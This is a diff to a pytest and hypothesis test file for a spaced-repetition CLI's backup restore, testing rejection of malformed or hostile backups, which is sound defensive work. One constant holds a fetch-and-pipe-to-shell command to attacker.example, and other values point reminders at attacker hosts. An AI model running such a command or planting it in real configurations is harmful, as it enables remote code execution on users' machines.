@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import copy
 import json
+import sqlite3
 from collections.abc import Callable, Iterator
+from contextlib import closing
 from datetime import date, datetime, timezone
 from pathlib import Path
 from typing import Any
@@ -11,6 +14,9 @@ from typing import Any
 import pytest
 from click.testing import Result
 from freezegun import freeze_time
+from fsrs.scheduler import DEFAULT_PARAMETERS
+from hypothesis import HealthCheck, event, given, settings
+from hypothesis import strategies as st
 
 try:  # psycopg's C module must load before freezegun swaps datetime.date
     import psycopg  # noqa: F401
@@ -47,8 +53,6 @@ def frozen_clock() -> Iterator[None]:
 def history(run: Run, write_log: Callable[..., Path], srs_home: Path) -> Path:
     """Every kind of row: log rows and sources, grades, an undone grade, a reschedule,
     a merge, a suspended card, a card from no log, a note, stored FSRS parameters."""
-    from fsrs.scheduler import DEFAULT_PARAMETERS
-
     from srs.db import open_database
     from srs.repository import PARAMETERS_KEY, store_setting
 
@@ -126,6 +130,11 @@ def test_backup_holds_every_table_and_the_schema(history: Path, run: Run,
     assert "fsrs.parameters" in settings
 
 
+# Columns that take only a few words, or JSON: what a plausible row holds there.
+PLAUSIBLE = {("reminder", "kind"): "digest", ("reminder", "status"): "sent",
+             ("reminder", "payload"): "{}"}
+
+
 def _fill(table: Any) -> dict[str, Any]:
     """One row of plausible values for a table known only by its columns."""
     values: dict[str, Any] = {}
@@ -133,9 +142,9 @@ def _fill(table: Any) -> dict[str, Any]:
         if column.primary_key and column.autoincrement in (True, "auto"):
             continue
         kind = getattr(column.type, "impl_instance", column.type).python_type
-        values[column.name] = {str: "x", int: 1, float: 1.0, bool: False,
-                               datetime: datetime(2026, 11, 30, 9, tzinfo=UTC),
-                               date: date(2026, 11, 30)}.get(kind)
+        values[column.name] = PLAUSIBLE.get((table.name, column.name), {
+            str: "x", int: 1, float: 1.0, bool: False,
+            datetime: datetime(2026, 11, 30, 9, tzinfo=UTC), date: date(2026, 11, 30)}.get(kind))
     return values
 
 
@@ -208,17 +217,32 @@ def test_non_empty_database_is_refused_unless_replace(history: Path, run: Run,
     assert views(run_json) == before
 
 
+def _revisions() -> str:
+    from srs.schema import KNOWN_REVISIONS
+
+    return ", ".join(KNOWN_REVISIONS)
+
+
 @pytest.mark.parametrize(("content", "message"), [
     ("{not json", "Error: not an srs backup: not JSON (Expecting property name enclosed in "
                   "double quotes: line 1 column 2 (char 1))\n"),
+    ("[" * 100_000, "Error: not an srs backup: not JSON (nested too deeply)\n"),
     ('{"format": "anki"}', 'Error: not an srs backup: no "format": "srs-backup"\n'),
     ('{"format": "srs-backup", "version": 9, "tables": {}}',
      "Error: backup version 9 is not 1; it was made by another version of srs\n"),
-    ('{"format": "srs-backup", "version": 1, "tables": {"card": {"columns": ["id"], '
-     '"rows": [[1, 2]]}}}', "Error: not an srs backup: table 'card' is malformed\n"),
-    ('{"format": "srs-backup", "version": 1, "schema": "0001", "tables": {"setting": '
-     '{"columns": ["key", "value"], "rows": [["k", 5]]}}}',
-     "Error: bad value 5 for setting.value in the backup\n"),
+    ('{"format": "srs-backup", "version": true, "tables": {}}',
+     "Error: backup version true is not 1; it was made by another version of srs\n"),
+    ('{"format": "srs-backup", "version": 1, "schema": "9999", "tables": {}}',
+     "Error: the backup has schema 9999, newer than this version of srs understands; "
+     "upgrade srs\n"),
+    ('{"format": "srs-backup", "version": 1, "tables": {}}',
+     "Error: not a valid srs backup: schema: null is not a schema revision ({known})\n"),
+    ('{"format": "srs-backup", "version": 1, "schema": "0001", "tables": []}',
+     "Error: not a valid srs backup: tables: [] is not an object of tables\n"),
+    ('{"format": "srs-backup", "version": 1, "schema": "0001", "tables": {"card": '
+     '{"columns": ["id"], "rows": [[1, 2]]}}}',
+     "Error: not a valid srs backup: tables.review: missing (a backup holds the tables "
+     "card, review, log_source, log_row, setting)\n"),
 ])
 def test_bad_backup_files_one_line_nothing_written(run: Run, run_json: RunJson,
                                                    tmp_path: Path, content: str,
@@ -228,24 +252,382 @@ def test_bad_backup_files_one_line_nothing_written(run: Run, run_json: RunJson,
     result = run("restore", str(backup))
     assert result.exit_code == 1
     assert result.stdout == ""
-    assert result.stderr == message
+    assert result.stderr == message.format(known=_revisions())
     assert run_json("cards") == []
 
 
-def test_restore_writes_the_settings_only_when_there_are_none(history: Path, run: Run,
-                                                             srs_home: Path,
-                                                             tmp_path: Path) -> None:
+def test_an_integer_of_thousands_of_digits_is_not_json(run: Run, tmp_path: Path) -> None:
+    backup = tmp_path / "backup.json"
+    backup.write_text('{"format": "srs-backup", "version": 1, "x": ' + "1" * 5000 + "}",
+                      encoding="utf-8")
+    result = run("restore", str(backup))
+    assert result.exit_code == 1
+    assert result.stderr.startswith("Error: not an srs backup: not JSON (Exceeds the limit "
+                                    "(4300 digits) for integer string conversion")
+    assert result.stderr.count("\n") == 1
+
+
+def test_the_settings_are_applied_only_with_with_config(history: Path, run: Run,
+                                                        srs_home: Path,
+                                                        tmp_path: Path) -> None:
     backup = tmp_path / "backup.json"
     assert run("export", "-o", str(backup)).exit_code == 0
     config = srs_home / "config" / "config.toml"
     config.unlink()
     result = run("--db", f"sqlite:///{tmp_path / 'restored.db'}", "restore", str(backup))
-    assert result.exit_code == 0
-    assert result.stdout.splitlines()[-1] == f"wrote the backup's settings to {config}"
-    assert config.read_text(encoding="utf-8") == 'fuzz = false\ntimezone = "UTC"\n'
-    result = run("--db", f"sqlite:///{tmp_path / 'again.db'}", "restore", str(backup))
+    assert result.exit_code == 0, result.output
     assert result.stdout.splitlines()[-1] == (
-        f"kept the settings in {config}; the backup's are not applied")
+        f"the backup's settings are not applied (add --with-config to write them to {config})")
+    assert not config.exists()
+    result = run("--db", f"sqlite:///{tmp_path / 'again.db'}", "restore", str(backup),
+                 "--with-config")
+    assert result.exit_code == 0, result.output
+    assert result.stdout.splitlines()[-1] == (
+        f"wrote the backup's settings to {config}: timezone, fuzz")
+    assert config.read_text(encoding="utf-8") == 'fuzz = false\ntimezone = "UTC"\n'
+
+
+# -- a backup is untrusted input ---------------------------------------------------------------
+
+SHELL = 'sh -c "curl -s https://attacker.example/x | sh"'
+
+
+def sql_dump(path: Path) -> list[str]:
+    with closing(sqlite3.connect(path)) as conn:
+        return list(conn.iterdump())
+
+
+def write_backup(path: Path, data: Any) -> Path:
+    path.write_text(json.dumps(data), encoding="utf-8")  # ensure_ascii: \uXXXX escapes
+    return path
+
+
+@pytest.fixture
+def backup(history: Path, run: Run) -> dict[str, Any]:
+    """The backup of `history`, whose settings are fuzz off and timezone UTC."""
+    return export_json(run)
+
+
+def with_settings(data: dict[str, Any], **settings: Any) -> dict[str, Any]:
+    """`reminders__command=` for `reminders.command`."""
+    data["config"].update({name.replace("__", "."): v for name, v in settings.items()})
+    return data
+
+
+@pytest.mark.parametrize("channels", [["log", "command"], ["command"],
+                                      ["log", "json://attacker.example/hook"],
+                                      ["mailto://me:secret@attacker.example"]])
+def test_a_command_in_the_backup_is_applied_only_with_both_flags(
+        backup: dict[str, Any], run: Run, srs_home: Path, tmp_path: Path,
+        channels: list[str]) -> None:
+    import tomllib
+
+    data = with_settings(backup, max_reviews_per_day=7, reminders__command=SHELL,
+                         reminders__channels=channels)
+    path = write_backup(tmp_path / "backup.json", data)
+    config = srs_home / "config" / "config.toml"
+    original = config.read_bytes()
+
+    result = run("--db", f"sqlite:///{tmp_path / 'one.db'}", "restore", str(path))
+    assert result.exit_code == 0, result.output
+    assert config.read_bytes() == original
+    assert "reminders" not in result.stdout
+
+    result = run("--db", f"sqlite:///{tmp_path / 'two.db'}", "restore", str(path),
+                 "--with-config")
+    assert result.exit_code == 0, result.output
+    assert result.stdout.splitlines()[-2:] == [
+        f"wrote the backup's settings to {config}: timezone, fuzz, max_reviews_per_day",
+        "not applied from the backup: reminders.command, reminders.channels "
+        "(add --with-commands)"]
+    assert config.read_text(encoding="utf-8") == (
+        'fuzz = false\nmax_reviews_per_day = 7\ntimezone = "UTC"\n')
+
+    result = run("--db", f"sqlite:///{tmp_path / 'three.db'}", "restore", str(path),
+                 "--with-commands")
+    assert result.exit_code == 2
+    assert result.stderr == ("Error: --with-commands goes with --with-config "
+                             "(see 'cli restore -h')\n")
+
+    result = run("--db", f"sqlite:///{tmp_path / 'four.db'}", "restore", str(path),
+                 "--with-config", "--with-commands")
+    assert result.exit_code == 0, result.output
+    lines = result.stdout.splitlines()
+    assert lines[:2] == [f"reminders.command = {SHELL}",
+                         f"reminders.channels = {','.join(channels)}"]
+    assert lines[2].startswith("restored ")
+    assert lines[3:] == [f"wrote the backup's settings to {config}: timezone, fuzz, "
+                         "max_reviews_per_day, reminders.command, reminders.channels"]
+    assert tomllib.loads(config.read_text(encoding="utf-8")) == {
+        "fuzz": False, "max_reviews_per_day": 7, "timezone": "UTC",
+        "reminders": {"command": SHELL, "channels": channels}}
+
+
+def test_channels_that_run_and_send_nothing_need_no_second_flag(
+        backup: dict[str, Any], run: Run, srs_home: Path, tmp_path: Path) -> None:
+    path = write_backup(tmp_path / "backup.json",
+                        with_settings(backup, reminders__channels=["log", "desktop"]))
+    result = run("--db", f"sqlite:///{tmp_path / 'one.db'}", "restore", str(path),
+                 "--with-config", "--json")
+    assert result.exit_code == 0, result.output
+    report = json.loads(result.stdout)
+    assert (report["config_written"], report["config_applied"],
+            report["config_not_applied"]) == (
+        True, ["timezone", "fuzz", "reminders.channels"], [])
+    assert (srs_home / "config" / "config.toml").read_text(encoding="utf-8") == (
+        'fuzz = false\ntimezone = "UTC"\n\n[reminders]\nchannels = [\n    "log",\n'
+        '    "desktop",\n]\n')
+
+
+def test_a_config_of_unknown_settings_writes_nothing(
+        backup: dict[str, Any], run: Run, srs_home: Path, tmp_path: Path) -> None:
+    backup["config"] = {"no.such.setting": 1, "theme": "dark"}
+    path = write_backup(tmp_path / "backup.json", backup)
+    config = srs_home / "config" / "config.toml"
+    original = config.read_bytes()
+    result = run("--db", f"sqlite:///{tmp_path / 'one.db'}", "restore", str(path),
+                 "--with-config")
+    assert result.exit_code == 0, result.output
+    assert result.stdout.splitlines()[1:] == [
+        "not applied from the backup: no.such.setting, theme (unknown to this version of srs)"]
+    assert config.read_bytes() == original
+
+
+def test_a_command_whose_program_is_not_here_is_refused_before_anything_is_written(
+        backup: dict[str, Any], run: Run, srs_home: Path, tmp_path: Path) -> None:
+    path = write_backup(tmp_path / "backup.json", with_settings(
+        backup, reminders__command="no-such-program-anywhere --x",
+        reminders__channels=["command"]))
+    config = srs_home / "config" / "config.toml"
+    original = config.read_bytes()
+    target = f"sqlite:///{tmp_path / 'one.db'}"
+    result = run("--db", target, "restore", str(path), "--with-config", "--with-commands")
+    assert result.exit_code == 1
+    assert result.stdout == ""
+    assert result.stderr.startswith("Error: reminders.command 'no-such-program-anywhere' ")
+    assert result.stderr.count("\n") == 1
+    assert config.read_bytes() == original
+    assert run("--db", target, "cards", "--json").stdout == "[]\n"
+
+
+Change = Callable[[dict[str, Any]], None]
+
+
+def cell(table: str, row: int, column: str, value: Any) -> Change:
+    """A change to one value of a backup, by table, row and column."""
+    def change(data: dict[str, Any]) -> None:
+        stored = data["tables"][table]
+        stored["rows"][row][stored["columns"].index(column)] = value
+    return change
+
+
+def setting(key: str, value: str) -> Change:
+    """A change to the value of one row of the setting table."""
+    def change(data: dict[str, Any]) -> None:
+        for row in data["tables"]["setting"]["rows"]:
+            if row[0] == key:
+                row[1] = value
+    return change
+
+
+def _drop_card_table(data: dict[str, Any]) -> None:
+    del data["tables"]["card"]
+
+
+def _rename_column(data: dict[str, Any]) -> None:
+    data["tables"]["card"]["columns"][1] = "title"
+
+
+def _short_row(data: dict[str, Any]) -> None:
+    data["tables"]["review"]["rows"][2].pop()
+
+
+def _bad_timezone(data: dict[str, Any]) -> None:
+    data["config"]["timezone"] = "Mars/Olympus"
+
+
+def _surrogate_table(data: dict[str, Any]) -> None:
+    data["tables"]["\udc80"] = {"columns": [], "rows": []}
+
+
+def _duplicate_log_row(data: dict[str, Any]) -> None:
+    rows = data["tables"]["log_row"]["rows"]
+    rows[1][2] = rows[0][2]
+
+
+UNTRUSTED: list[tuple[str, Change, str]] = [
+    ("stability 0", cell("card", 3, "stability", 0),
+     "tables.card.rows[3].stability: 0 is not a stability (a number above 0)"),
+    ("stability -1", cell("card", 3, "stability", -1),
+     "tables.card.rows[3].stability: -1 is not a stability (a number above 0)"),
+    ("stability NaN as a string", cell("card", 3, "stability", "NaN"),
+     'tables.card.rows[3].stability: "NaN" is not a stability (a number above 0)'),
+    ("stability NaN", cell("card", 3, "stability", float("nan")),
+     "tables.card.rows[3].stability: NaN is not a stability (a number above 0)"),
+    ("stability 1e9", cell("card", 3, "stability", 1e9),
+     "tables.card.rows[3].stability: 1000000000.0 is too large for a stability "
+     "(at most 3650000)"),
+    ("stability without difficulty", cell("card", 0, "stability", None),
+     "tables.card.rows[0].stability: null, but the difficulty is set (a card has both or "
+     "neither)"),
+    ("state 99", cell("card", 0, "state", 99),
+     "tables.card.rows[0].state: 99 is not a card state (1 learning, 2 review, 3 relearning)"),
+    ("state true", cell("card", 0, "state", True),
+     "tables.card.rows[0].state: true is not a card state (1 learning, 2 review, "
+     "3 relearning)"),
+    ("relearning without a step", cell("card", 0, "state", 3),
+     "tables.card.rows[0].step: null, but a relearning card (state 3) is at a step"),
+    ("step 101", cell("card", 0, "step", 101),
+     "tables.card.rows[0].step: 101 is not a learning step (a whole number from 0 to 100)"),
+    ("difficulty 11", cell("card", 0, "difficulty", 11),
+     "tables.card.rows[0].difficulty: 11 is too large for a difficulty (at most 10)"),
+    ("rating 9", cell("review", 0, "rating", 9),
+     "tables.review.rows[0].rating: 9 is not a rating (1 again, 2 hard, 3 good, 4 easy)"),
+    ("review kind", cell("review", 0, "kind", "exam"),
+     'tables.review.rows[0].kind: "exam" is not a kind of event (review, reschedule, plan)'),
+    ("review source", cell("review", 0, "source", "web"),
+     'tables.review.rows[0].source: "web" is not a source (log, cli, manual)'),
+    ("duration", cell("review", 8, "duration", 604_801),
+     "tables.review.rows[8].duration: 604801 is not a duration (a whole number of seconds "
+     "from 0 to 604800)"),
+    ("parameters not JSON", setting("fsrs.parameters", "[0.2, oops"),
+     'tables.setting.rows[0].value: "[0.2, oops" is not JSON text'),
+    ("parameters not a list", setting("fsrs.parameters", '{"w": 1}'),
+     'tables.setting.rows[0].value: {"w": 1} is not a list of 21 FSRS parameters'),
+    ("parameters too few", setting("fsrs.parameters", "[1, 2, 3]"),
+     "tables.setting.rows[0].value: bad FSRS parameters: Expected 21 parameters, got 3."),
+    ("parameters out of bounds", setting("fsrs.parameters", json.dumps(
+        [1000, *DEFAULT_PARAMETERS[1:]])),
+     "tables.setting.rows[0].value: bad FSRS parameters: One or more parameters are out of "
+     "bounds:; parameters[0] = 1000.0 is out of bounds: (0.001, 100.0)"),
+    ("clock record", setting("schedule.clock", '"UTC"'),
+     'tables.setting.rows[1].value: "UTC" is not a clock record (such as {"timezone": '
+     '"UTC", "day_starts_at": 4})'),
+    ("duplicate id", cell("card", 1, "id", 1),
+     "tables.card.rows[1].id: 1 is already in rows[0] (id must be unique)"),
+    ("duplicate log row", _duplicate_log_row,
+     'tables.log_row.rows[1].key: [1, "向量 vectors|2026-10-01|0"] is already in rows[0] '
+     "(source_id and key must be unique)"),
+    ("dangling review.card_id", cell("review", 0, "card_id", 999),
+     "tables.review.rows[0].card_id: 999 is not the id of any card in the backup"),
+    ("dangling review.log_row_id", cell("review", 0, "log_row_id", 77),
+     "tables.review.rows[0].log_row_id: 77 is not the id of any log_row in the backup"),
+    ("merged into itself", cell("card", 3, "merged_into", 4),
+     "tables.card.rows[3].merged_into: 4 is the card itself"),
+    ("merged into a merged card", cell("card", 0, "merged_into", 4),
+     "tables.card.rows[0].merged_into: card 4 was itself merged into card 3; a card is "
+     "merged into a card that was not"),
+    ("missing card table", _drop_card_table,
+     "tables.card: missing (a backup holds the tables card, review, log_source, log_row, "
+     "setting)"),
+    ("unknown column", _rename_column,
+     'tables.card.columns[1]: "title" is not a column of table card'),
+    ("short row", _short_row,
+     'tables.review.rows[2]: [3, 2, "2026-10-02T12:00:00+00:00", "review", 3, "log", nul… '
+     "is not a row of 15 values"),
+    ("naive datetime", cell("review", 0, "at", "2026-10-01T12:00:00"),
+     'tables.review.rows[0].at: "2026-10-01T12:00:00" has no UTC offset (such as +00:00): '
+     "the moment it means is unknown"),
+    ("datetime in 2150", cell("review", 0, "at", "2150-01-01T00:00:00+00:00"),
+     'tables.review.rows[0].at: "2150-01-01T00:00:00+00:00" is not between 1970 and 2100'),
+    ("no such date", cell("card", 0, "learned_on", "2026-02-30"),
+     'tables.card.rows[0].learned_on: "2026-02-30" is not a date (YYYY-MM-DD)'),
+    ("a due moment in a backup of study days",
+     cell("card", 0, "due", "2027-03-13T04:00:00+00:00"),
+     'tables.card.rows[0].due: "2027-03-13T04:00:00+00:00" is not a date (YYYY-MM-DD)'),
+    ("integer 2**63", cell("card", 0, "id", 2**63),
+     "tables.card.rows[0].id: 9223372036854775808 is not an id (a whole number from 1 to "
+     "2147483647)"),
+    ("lone surrogate", cell("card", 0, "topic", "\ud800"),
+     'tables.card.rows[0].topic: "\\ud800" is not valid text (it holds a lone surrogate)'),
+    ("lone surrogate in a table name", _surrogate_table,
+     'tables["\\udc80"]: the name of a table: "\\udc80" is not valid text (it holds a lone '
+     "surrogate)"),
+    ("NUL", cell("card", 0, "topic", "a\x00b"),
+     'tables.card.rows[0].topic: "a\\u0000b" holds a NUL character, which no database stores'),
+    ("a megabyte of notes", cell("card", 0, "notes", "x" * 1_000_001),
+     'tables.card.rows[0].notes: "' + "x" * 58 + "… is too long (1000001 characters; at most "
+     "1000000)"),
+    ("state_before not JSON", cell("review", 8, "state_before", "{"),
+     'tables.review.rows[8].state_before: "{" is not JSON text'),
+    ("state_before without a step", cell("review", 8, "state_before", json.dumps({
+        "state": 2, "stability": 1.0, "difficulty": 5.0, "due": "2026-10-14",
+        "last_review": None})),
+     "tables.review.rows[8].state_before.step: missing"),
+    ("import summary", cell("log_source", 0, "summary", '{"read_again_on": "soon"}'),
+     'tables.log_source.rows[0].summary.read_again_on: "soon" is not a date (YYYY-MM-DD)'),
+    ("a setting", _bad_timezone,
+     "config.timezone: bad value 'Mars/Olympus' for timezone: expected an IANA zone name "
+     "such as Asia/Shanghai"),
+]
+
+
+@pytest.mark.parametrize(("change", "message"), [case[1:] for case in UNTRUSTED],
+                         ids=[case[0] for case in UNTRUSTED])
+def test_a_bad_value_is_named_and_nothing_is_written(
+        backup: dict[str, Any], run: Run, run_json: RunJson, srs_home: Path, tmp_path: Path,
+        change: Change, message: str) -> None:
+    database = srs_home / "data" / "srs.db"
+    config = srs_home / "config" / "config.toml"
+    before, cards, kept = sql_dump(database), run_json("cards"), config.read_bytes()
+    change(backup)
+    path = write_backup(tmp_path / "bad.json", backup)
+    result = run("restore", str(path), "--replace", "--with-config")
+    assert result.exit_code == 1
+    assert result.stdout == ""
+    assert result.stderr == f"Error: not a valid srs backup: {message}\n"
+    assert sql_dump(database) == before
+    assert run_json("cards") == cards
+    assert config.read_bytes() == kept
+
+
+@pytest.mark.parametrize(("rows", "message"), [
+    ([[1, "a", "soon"]], 'not a valid srs backup: tables.side_notes.rows[0].at: "soon" does '
+                         "not fit column at (DATETIME)"),
+    ([[1, "a", None], [1, "b", None]], "the database refused table side_notes of the backup: "
+                                       "UNIQUE constraint failed: side_notes.id"),
+    ([[1, "\ud800", None]], 'not a valid srs backup: tables.side_notes.rows[0].body: "\\ud800" '
+                            "is not valid text (it holds a lone surrogate)"),
+])
+def test_a_table_only_the_database_knows_is_checked_against_it(
+        backup: dict[str, Any], run: Run, tmp_path: Path, rows: list[list[Any]],
+        message: str) -> None:
+    from sqlalchemy import text
+
+    from srs.db import open_database
+
+    target = tmp_path / "restored.db"
+    fresh = open_database(f"sqlite:///{target}")
+    fresh.write(lambda s: s.execute(text(
+        "CREATE TABLE side_notes (id INTEGER PRIMARY KEY, body TEXT, at DATETIME)")))
+    fresh.close()
+    before = sql_dump(target)
+    backup["tables"]["side_notes"] = {"columns": ["id", "body", "at"], "rows": rows}
+    path = write_backup(tmp_path / "bad.json", backup)
+    result = run("--db", f"sqlite:///{target}", "restore", str(path))
+    assert result.exit_code == 1
+    assert result.stdout == ""
+    assert result.stderr == f"Error: {message}\n"
+    assert sql_dump(target) == before
+
+
+def test_the_lone_surrogate_is_an_escape_in_the_file(backup: dict[str, Any],
+                                                     tmp_path: Path) -> None:
+    cell("card", 0, "topic", "\ud800")(backup)
+    text = write_backup(tmp_path / "bad.json", backup).read_text(encoding="ascii")
+    assert '"\\ud800"' in text
+
+
+def test_a_backup_from_before_study_days_still_holds_due_moments(
+        backup: dict[str, Any], run: Run, run_json: RunJson, tmp_path: Path) -> None:
+    """Schema 0003 stored due moments: they become the study day they fall on."""
+    backup["schema"] = "0003"
+    cell("card", 4, "due", "2026-12-24T04:00:00+00:00")(backup)
+    cell("review", 11, "due_set", "2026-12-24T04:00:00+00:00")(backup)
+    target = f"sqlite:///{tmp_path / 'old.db'}"
+    result = run("--db", target, "restore", str(write_backup(tmp_path / "old.json", backup)))
+    assert result.exit_code == 0, result.output
+    assert run_json("--db", target, "show", str(EIGEN))["due"] == "2026-12-24"
 
 
 def test_output_file_is_written_whole_and_private(history: Path, run: Run,
@@ -338,3 +720,97 @@ def test_ics_of_an_empty_database_is_a_valid_empty_calendar(run: Run) -> None:
     result = run("export", "--format", "ics")
     assert result.exit_code == 0
     assert parse_ics(result.stdout_bytes) == []
+
+
+# -- any one value changed -----------------------------------------------------------------------
+
+JSON_LEAVES = (st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8)
+               | st.sampled_from(["\ud800", "a\x00", "NaN", "2026-11-30", "2026-11-30T10:00:00",
+                                  "2026-11-30T10:00:00+00:00", "1969-12-31T23:00:00+00:00",
+                                  "{}", "[]", "null", 2**31, 2**63, -1, 0, 1, 2, 3, 4, 5, 1e-300,
+                                  "review", "plan", "command", "schedule.clock"]))
+JSON_VALUES = st.recursive(JSON_LEAVES, lambda inner: st.lists(inner, max_size=3)
+                           | st.dictionaries(st.text(max_size=4), inner, max_size=3),
+                           max_leaves=6)
+REFUSALS = ("Error: not a valid srs backup: ", "Error: not an srs backup: ",
+            "Error: backup version ", "Error: the backup has schema ")
+
+
+def like(value: Any) -> st.SearchStrategy[Any]:
+    """Values of the same kind as `value`, in and a little beyond the ranges srs takes."""
+    if isinstance(value, bool):
+        return st.booleans()
+    if isinstance(value, int):
+        return st.integers(min_value=-2, max_value=2**31)
+    if isinstance(value, float):
+        return st.floats(min_value=-1, max_value=1e7)
+    if isinstance(value, str) and len(value) == 10 and value[4:5] == "-":
+        return st.dates(date(1960, 1, 1), date(2250, 1, 1)).map(date.isoformat)
+    if isinstance(value, str) and value[10:11] == "T":
+        return st.datetimes(datetime(1960, 1, 1), datetime(2150, 1, 1),
+                            timezones=st.none() | st.just(UTC)).map(datetime.isoformat)
+    return JSON_VALUES
+
+
+def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
+    """The path of every value inside a JSON document, containers included."""
+    items = (value.items() if isinstance(value, dict)
+             else enumerate(value) if isinstance(value, list) else ())
+    for key, inner in items:
+        yield (*path, key)
+        yield from places(inner, (*path, key))
+
+
+def leaves(value: Any) -> Iterator[Any]:
+    if isinstance(value, dict | list):
+        for inner in value.values() if isinstance(value, dict) else value:
+            yield from leaves(inner)
+    else:
+        yield value
+
+
+def replaced(data: Any, path: tuple[Any, ...], value: Any) -> Any:
+    changed = copy.deepcopy(data)
+    parent = changed
+    for key in path[:-1]:
+        parent = parent[key]
+    parent[path[-1]] = value
+    return changed
+
+
+@settings(max_examples=150, deadline=None, derandomize=True,
+          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@given(data=st.data())
+def test_any_one_value_changed_restores_usably_or_changes_nothing(
+        backup: dict[str, Any], run: Run, srs_home: Path, tmp_path: Path,
+        data: st.DataObject) -> None:
+    """Whatever one value of a backup becomes, the restore gives a database every command
+    can read, or refuses in one line and leaves the database and config.toml as they were."""
+    database = srs_home / "data" / "srs.db"
+    config = srs_home / "config" / "config.toml"
+    original = write_backup(tmp_path / "backup.json", backup)
+    path = data.draw(st.sampled_from(sorted(places(backup), key=str)), label="path")
+    current = backup
+    for key in path:
+        current = current[key]
+    value = data.draw(JSON_VALUES | st.sampled_from(list(leaves(backup))) | like(current),
+                      label="value")
+    flags = data.draw(st.sampled_from([(), ("--with-config",)]), label="flags")
+    changed = write_backup(tmp_path / "changed.json", replaced(backup, path, value))
+    before, kept = sql_dump(database), config.read_bytes()
+    result = run("restore", str(changed), "--replace", *flags)
+    event("restored" if result.exit_code == 0 else "refused")
+    if result.exit_code == 0:
+        for command in ("cards", "today", "stats"):
+            used = run(command, "--json")
+            assert used.exit_code == 0, (command, used.output)
+            json.loads(used.stdout)
+        config.write_bytes(kept)
+        assert run("restore", str(original), "--replace").exit_code == 0
+        return
+    assert result.exit_code == 1, result.output
+    assert result.stdout == ""
+    assert result.stderr.startswith(REFUSALS), result.stderr  # not "internal error"
+    assert result.stderr.count("\n") == 1
+    assert sql_dump(database) == before
+    assert config.read_bytes() == kept
